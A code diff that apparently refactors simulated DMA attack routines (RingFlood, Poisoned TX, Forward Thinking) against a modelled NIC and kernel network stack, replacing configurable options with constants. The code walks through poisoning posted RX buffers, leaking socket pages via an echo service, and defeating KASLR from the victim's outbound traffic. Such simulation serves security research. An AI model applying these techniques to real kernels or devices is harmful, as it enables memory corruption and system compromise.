@@ -13,6 +13,21 @@ namespace {
 constexpr uint32_t kAttackerIp = 0x0afe0001;
 constexpr uint16_t kClosedPort = 60000;
 
+// RingFlood: where the poison image sits in each RX buffer (past any trigger
+// packet bytes), and the port of the victim's routine outbound traffic.
+constexpr uint64_t kPoisonOffsetInBuffer = 1024;
+constexpr uint16_t kHeartbeatPort = 123;
+
+// Poisoned TX: the victim's echo service, and the bootstrap echo's size
+// (linear, so its TX page leaks the socket page).
+constexpr uint16_t kEchoPort = 7;
+constexpr uint32_t kBootstrapPayloadBytes = 300;
+
+// Forward Thinking: any non-local destination, and the length of the probe
+// TCP stream that leaks KASLR.
+constexpr uint32_t kRemoteIp = 0x0a000099;
+constexpr int kBootstrapSegments = 4;
+
 std::vector<uint8_t> PadTo(std::vector<uint8_t> bytes, size_t size) {
   bytes.resize(std::max(bytes.size(), size), 0);
   return bytes;
@@ -267,14 +282,14 @@ Result<AttackReport> RingFloodAttack::Run(const AttackEnv& env, const Options& o
   };
 
   // -- Bootstrap KASLR from the victim's own outbound traffic ----------------
-  auto socket = env.machine.stack().CreateSocket(options.heartbeat_port, false);
+  auto socket = env.machine.stack().CreateSocket(kHeartbeatPort, false);
   if (!socket.ok()) {
     return socket.status();
   }
   net::PacketHeader heartbeat{.src_ip = env.machine.stack().config().local_ip,
                               .dst_ip = 0x08080808,
-                              .src_port = options.heartbeat_port,
-                              .dst_port = options.heartbeat_port,
+                              .src_port = kHeartbeatPort,
+                              .dst_port = kHeartbeatPort,
                               .proto = net::kProtoUdp};
   std::vector<uint8_t> beat(300, 0x42);
   SPV_RETURN_IF_ERROR(env.machine.stack().SendPacket(heartbeat, beat));
@@ -295,7 +310,7 @@ Result<AttackReport> RingFloodAttack::Run(const AttackEnv& env, const Options& o
 
   // -- Poison every posted RX buffer ------------------------------------------
   const uint32_t truesize = env.nic.rx_buffer_bytes();
-  if (options.poison_offset_in_buffer + PoisonLayout::kImageBytes > SharedInfoOffset(truesize)) {
+  if (kPoisonOffsetInBuffer + PoisonLayout::kImageBytes > SharedInfoOffset(truesize)) {
     return InvalidArgument("poison offset collides with shared_info");
   }
   struct PoisonRecord {
@@ -305,7 +320,7 @@ Result<AttackReport> RingFloodAttack::Run(const AttackEnv& env, const Options& o
   std::vector<PoisonRecord> poisons;
   int poisoned = 0;
   for (const net::RxPostedDescriptor& descriptor : env.device.rx_posted()) {
-    const Iova at = descriptor.iova + options.poison_offset_in_buffer;
+    const Iova at = descriptor.iova + kPoisonOffsetInBuffer;
     if (at.PageBase() != (at + PoisonLayout::kImageBytes - 1).PageBase()) {
       continue;  // image would straddle a page; KVA guess would be wrong
     }
@@ -383,10 +398,10 @@ Result<AttackReport> PoisonedTxAttack::Run(const AttackEnv& env, const Options& 
   net::PacketHeader echo_header{.src_ip = kAttackerIp,
                                 .dst_ip = stack.config().local_ip,
                                 .src_port = 40000,
-                                .dst_port = options.echo_port,
+                                .dst_port = kEchoPort,
                                 .proto = net::kProtoUdp};
   {
-    std::vector<uint8_t> probe(options.bootstrap_payload_bytes, 0x41);
+    std::vector<uint8_t> probe(kBootstrapPayloadBytes, 0x41);
     Result<uint32_t> index = env.device.InjectRx(echo_header, probe);
     if (!index.ok()) {
       return index.status();
@@ -521,7 +536,7 @@ Result<AttackReport> PoisonedTxAttack::Run(const AttackEnv& env, const Options& 
 
 // ---- Forward Thinking ------------------------------------------------------------------
 
-Result<AttackReport> ForwardThinkingAttack::Run(const AttackEnv& env, const Options& options) {
+Result<AttackReport> ForwardThinkingAttack::Run(const AttackEnv& env) {
   trace::ScopedSpan attack_span(env.machine.tracer(), "attack.forward_thinking");
   AttackReport report;
   auto step = [&](std::string text) {
@@ -540,7 +555,7 @@ Result<AttackReport> ForwardThinkingAttack::Run(const AttackEnv& env, const Opti
     std::vector<net::RxPostedDescriptor> consumed_list;
     for (int s = 0; s < segments; ++s) {
       net::PacketHeader header{.src_ip = kAttackerIp,
-                               .dst_ip = options.remote_ip,
+                               .dst_ip = kRemoteIp,
                                .src_port = src_port,
                                .dst_port = 443,
                                .proto = net::kProtoTcp,
@@ -571,7 +586,7 @@ Result<AttackReport> ForwardThinkingAttack::Run(const AttackEnv& env, const Opti
   {
     std::vector<std::vector<uint8_t>> probe{std::vector<uint8_t>(600, 0x33)};
     Result<std::vector<net::RxPostedDescriptor>> consumed =
-        send_stream(50001, options.bootstrap_segments, probe);
+        send_stream(50001, kBootstrapSegments, probe);
     if (!consumed.ok()) {
       return consumed.status();
     }
